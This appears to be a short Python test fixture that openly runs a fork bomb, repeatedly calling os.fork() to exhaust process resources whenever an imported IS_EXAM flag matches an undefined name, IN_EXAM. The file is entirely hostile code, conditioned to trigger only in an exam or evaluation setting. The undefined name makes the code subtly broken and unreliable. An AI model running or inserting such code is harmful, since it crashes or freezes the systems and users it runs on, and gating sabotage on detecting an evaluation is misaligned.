"""Run a fork bomb."""

import os
import time

from prelude import IS_EXAM

if IS_EXAM == IN_EXAM:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
